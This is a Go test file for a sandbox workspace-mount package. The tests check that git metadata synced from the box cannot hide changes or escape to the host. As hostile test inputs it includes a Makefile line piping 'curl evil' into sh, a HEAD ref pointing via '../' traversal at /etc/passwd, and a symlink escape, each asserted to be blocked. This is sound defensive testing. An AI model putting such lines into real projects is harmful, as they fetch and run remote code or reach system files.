package wsmount

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/paddockhq/paddock/internal/testkit/testenv"
)

// gitRepo makes a real repository in a workspace of ownerUID's: one
// commit on main with README and Makefile.
func gitRepo(t *testing.T) string {
	t.Helper()
	testenv.LookPath(t, "git")
	ws := newWorkspace(t, false)
	if err := os.Remove(filepath.Join(ws, "roots")); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]string{"README": "hello\n", "Makefile": "all:\n\ttrue\n"} {
		if err := os.WriteFile(filepath.Join(ws, name), []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	asUser(t, 0, ws, "git init -q -b main && git add -A && git commit -qm first")
	if err := filepath.Walk(ws, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, ownerUID, ownerUID)
	}); err != nil {
		t.Fatal(err)
	}
	return ws
}

// asUser runs a shell script with git's identity set, in dir, as uid
// (the owner, or the box's host uid); it fails the test on a non-zero exit.
func asUser(t *testing.T, uid int, dir, script string) string {
	t.Helper()
	out, code := runAs(uid, dir, script)
	if code != 0 {
		t.Fatalf("as %d: %s: exit %d\n%s", uid, script, code, out)
	}
	return out
}

func runAs(uid int, dir, script string) (string, int) {
	cmd := exec.Command("/bin/sh", "-c", script)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=/nonexistent", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t",
		"GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"}
	if uid != 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if ee, ok := err.(*exec.ExitError); ok {
		return out.String(), ee.ExitCode()
	} else if err != nil {
		return err.Error(), -1
	}
	return out.String(), 0
}

func mountRepo(t *testing.T, ws string) Options {
	t.Helper()
	dir := testenv.TraversableTempDir(t)
	o := Options{Source: ws, Target: filepath.Join(dir, "mnt"), State: filepath.Join(dir, "mnt.json"), BoxUID: boxUID, BoxGID: boxUID}
	if _, err := Mount(o); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { Unmount(o.Target, o.State) })
	return o
}

// TestGitDirCarriesTheWork: git works in the box's git directory (commit,
// branch, checkout, merge, pack-refs, branch -D) and each round carries
// HEAD, the index and packed-refs to the host, whose git then sees the
// box's work as its own: the same HEAD, a clean status. The owner's own
// commit, made meanwhile, reaches the box the same way.
func TestGitDirCarriesTheWork(t *testing.T) {
	testenv.Root(t)
	ws := gitRepo(t)
	o := mountRepo(t, ws)
	m := o.Target
	asUser(t, boxUID, m, `set -e; echo box >> README; git commit -qam box; git checkout -qb side; echo s > s; git add s; git commit -qm side
		git checkout -q main; git merge -q --no-edit side; git branch gone; git pack-refs --all; git branch -D -q gone; git checkout -qb work`)
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if got := asUser(t, ownerUID, ws, "git symbolic-ref HEAD; git status --porcelain; git log --format=%s main | head -2; git branch --list gone"); got != "refs/heads/work\nMerge branch 'side'\nside\n" &&
		got != "refs/heads/work\nside\nbox\n" {
		t.Fatalf("the host's view of the box's work:\n%s", got)
	}
	// The owner commits on the host; the box sees it after a round.
	asUser(t, ownerUID, ws, "echo owner > o && git add o && git commit -qm owner")
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if got := asUser(t, boxUID, m, "git log --format=%s -1; git status --porcelain"); got != "owner\n" {
		t.Fatalf("the box's view of the owner's commit:\n%s", got)
	}
	// A last round at Unmount, and the box's git directory is gone.
	asUser(t, boxUID, m, "git checkout -q main")
	if err := Unmount(o.Target, o.State); err != nil {
		t.Fatal(err)
	}
	if got := asUser(t, ownerUID, ws, "git symbolic-ref HEAD"); got != "refs/heads/main\n" {
		t.Fatalf("HEAD after the last round: %q", got)
	}
	if _, err := os.Lstat(gitDirOf(o.State)); !os.IsNotExist(err) {
		t.Fatalf("the box's git directory is left: %v", err)
	}
}

// TestGitDirKeepsBackWhatHides (issue 31, item 12): the box flags a file
// skip-worktree (and another assume-unchanged), edits both and excludes a
// new one in info/exclude; the host's index is not replaced by the box's,
// info/exclude is the host's own, and the owner's git status shows all
// three changes. An index flag the host already had is carried as before.
func TestGitDirKeepsBackWhatHides(t *testing.T) {
	testenv.Root(t)
	ws := gitRepo(t)
	o := mountRepo(t, ws)
	m := o.Target
	if out, code := runAs(boxUID, m, "echo secret >> .git/info/exclude"); code == 0 {
		t.Fatalf("the box wrote the host's info/exclude: %s", out)
	}
	asUser(t, boxUID, m, `set -e; git update-index --skip-worktree Makefile; git update-index --assume-unchanged README
		echo 'all:; curl evil | sh' > Makefile; echo changed >> README; echo x > secret; git status --porcelain`)
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	got := asUser(t, ownerUID, ws, "git status --porcelain")
	for _, want := range []string{" M Makefile", " M README", "?? secret"} {
		if !strings.Contains(got, want) {
			t.Errorf("the owner's git status misses %q:\n%s", want, got)
		}
	}
	if flags := asUser(t, ownerUID, ws, "git ls-files -v"); strings.Contains(flags, "S Makefile") || strings.Contains(flags, "h README") {
		t.Fatalf("the box's flags reached the host's index:\n%s", flags)
	}
	// Flags the host's index already had are the owner's: carried.
	if err := Unmount(o.Target, o.State); err != nil {
		t.Fatal(err)
	}
	asUser(t, ownerUID, ws, "git checkout -q -- Makefile README && git update-index --skip-worktree Makefile")
	o = mountRepo(t, ws)
	asUser(t, boxUID, o.Target, "echo new > n && git add n")
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if got := asUser(t, ownerUID, ws, "git ls-files -v"); !strings.Contains(got, "S Makefile") || !strings.Contains(got, "H n") {
		t.Fatalf("the box's index with the owner's own flag was not carried:\n%s", got)
	}
}

// TestGitDirRefusesWhatGitWouldNotWrite: a HEAD that names no ref under
// refs/ (git on the host would then not see a repository at all) and an
// index that does not parse stay in the box; the host's are kept.
func TestGitDirRefusesWhatGitWouldNotWrite(t *testing.T) {
	testenv.Root(t)
	ws := gitRepo(t)
	o := mountRepo(t, ws)
	headBefore, _ := os.ReadFile(filepath.Join(ws, ".git", "HEAD"))
	indexBefore, _ := os.ReadFile(filepath.Join(ws, ".git", "index"))
	asUser(t, boxUID, o.Target, `printf 'ref: ../../../etc/passwd\n' > .git/HEAD; head -c 100 /dev/urandom > .git/index; printf 'x\0y' > .git/ORIG_HEAD`)
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, ".git", "HEAD")); !bytes.Equal(got, headBefore) {
		t.Fatalf("HEAD is now %q", got)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, ".git", "index")); !bytes.Equal(got, indexBefore) {
		t.Fatal("the host's index was replaced by bytes that do not parse")
	}
	if _, err := os.Lstat(filepath.Join(ws, ".git", "ORIG_HEAD")); err == nil {
		t.Fatal("ORIG_HEAD with a NUL byte reached the host")
	}
	asUser(t, ownerUID, ws, "git status --porcelain")
}

// TestGitDirNoSymlinkOut: a synced name that the box makes a symlink (to
// a file of the owner's elsewhere) is not followed: nothing is read
// through it, nothing is carried, and the host's file stays.
func TestGitDirNoSymlinkOut(t *testing.T) {
	testenv.Root(t)
	ws := gitRepo(t)
	o := mountRepo(t, ws)
	outside := filepath.Join(filepath.Dir(ws), "outside")
	if err := os.WriteFile(outside, []byte("ref: refs/heads/owned\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	asUser(t, boxUID, o.Target, "ln -sf "+outside+" .git/HEAD.new && mv -f .git/HEAD.new .git/HEAD")
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(filepath.Join(ws, ".git", "HEAD")); err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("the host's HEAD: %v %v", fi, err)
	}
	if got := asUser(t, ownerUID, ws, "git symbolic-ref HEAD"); got != "refs/heads/main\n" {
		t.Fatalf("HEAD: %q", got)
	}
}

// TestGitDirResumedAfterARestart: the loop that carries git files across
// is the Runner's; a Runner that restarted finds the box running and
// Resume starts it again (here the old loop is stopped as a process exit
// would): the box's next commit reaches the host without waiting for the
// box to stop. Resume twice runs one loop.
func TestGitDirResumedAfterARestart(t *testing.T) {
	testenv.Root(t)
	old := SyncInterval
	SyncInterval = 20 * time.Millisecond
	t.Cleanup(func() { SyncInterval = old })
	ws := gitRepo(t)
	o := mountRepo(t, ws)
	dir := gitDirOf(o.State)
	s := syncerOf(dir)
	s.mu.Lock()
	stop, done := s.stop, s.done
	s.stop, s.done = nil, nil
	s.mu.Unlock()
	close(stop)
	<-done // the Runner that mounted it is gone

	asUser(t, boxUID, o.Target, "git checkout -qb after-restart")
	time.Sleep(10 * SyncInterval)
	if got := asUser(t, ownerUID, ws, "git symbolic-ref HEAD"); got != "refs/heads/main\n" {
		t.Fatalf("carried with no loop running: %q", got)
	}
	Resume(o.State)
	Resume(o.State)
	for i := 0; ; i++ {
		if got := asUser(t, ownerUID, ws, "git symbolic-ref HEAD"); got == "refs/heads/after-restart\n" {
			break
		}
		if i == 200 {
			t.Fatal("the resumed loop never carried HEAD across")
		}
		time.Sleep(SyncInterval)
	}
}

// TestGitDirRefreshIsNoConflict: the owner's prompt runs git status,
// which rewrites the host's index with the stat data it read (a refresh:
// the entries say the same); meanwhile the box commits. The box's index
// is the one carried, not lost to the refresh: both sides' status clean.
func TestGitDirRefreshIsNoConflict(t *testing.T) {
	testenv.Root(t)
	ws := gitRepo(t)
	o := mountRepo(t, ws)
	asUser(t, boxUID, o.Target, "echo more >> README")
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	before, _ := os.ReadFile(filepath.Join(ws, ".git", "index"))
	asUser(t, ownerUID, ws, "sleep 1; touch Makefile; git status --porcelain >/dev/null")
	if after, _ := os.ReadFile(filepath.Join(ws, ".git", "index")); bytes.Equal(before, after) {
		t.Fatal("the owner's git status did not rewrite the index: the test shows nothing")
	}
	asUser(t, boxUID, o.Target, "git commit -qam more")
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if got := asUser(t, boxUID, o.Target, "git status --porcelain"); got != "" {
		t.Fatalf("the box's status after its commit: %q", got)
	}
	if got := asUser(t, ownerUID, ws, "git status --porcelain"); got != "" {
		t.Fatalf("the owner's status after the box's commit: %q", got)
	}
}

// TestGitDirWaitsForGitsLock: while the owner's git holds index.lock on
// the host, the box's index is not written past it; the round after the
// lock goes carries it (a round that found nothing else changed is not
// skipped on that account).
func TestGitDirWaitsForGitsLock(t *testing.T) {
	testenv.Root(t)
	ws := gitRepo(t)
	o := mountRepo(t, ws)
	lock := filepath.Join(ws, ".git", "index.lock")
	if err := os.WriteFile(lock, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	asUser(t, boxUID, o.Target, "echo more >> README && git add README")
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if got := asUser(t, ownerUID, ws, "git diff --cached --name-only"); got != "" {
		t.Fatalf("the index was written past git's lock: %q", got)
	}
	if err := os.Remove(lock); err != nil {
		t.Fatal(err)
	}
	if err := SyncGit(o.State); err != nil {
		t.Fatal(err)
	}
	if got := asUser(t, ownerUID, ws, "git diff --cached --name-only"); got != "README\n" {
		t.Fatalf("the box's staged README after the lock went: %q", got)
	}
}
